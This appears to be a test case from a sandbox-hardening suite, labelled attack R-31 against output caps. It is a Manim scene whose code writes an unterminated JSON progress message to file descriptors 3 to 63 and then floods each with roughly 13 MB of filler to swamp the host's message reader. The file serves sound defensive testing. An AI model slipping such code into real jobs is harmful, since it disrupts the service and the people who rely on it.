# attack: R-31
# what: Send one message that never ends to the reader of messages.
# layer: output caps
# static: rejected
# class: LIMIT_OUTPUT OUTPUT_MISSING CODE_ERROR
import os

from manim import *


class Attack(Scene):
    def construct(self):
        for number in range(3, 64):
            try:
                os.write(number, b'{"type":"progress","stage":"')
            except OSError:
                continue
            try:
                for _ in range(200):
                    os.write(number, b"x" * 65536)
            except OSError:
                continue
        raise ValueError("done")
        self.wait(0.1)
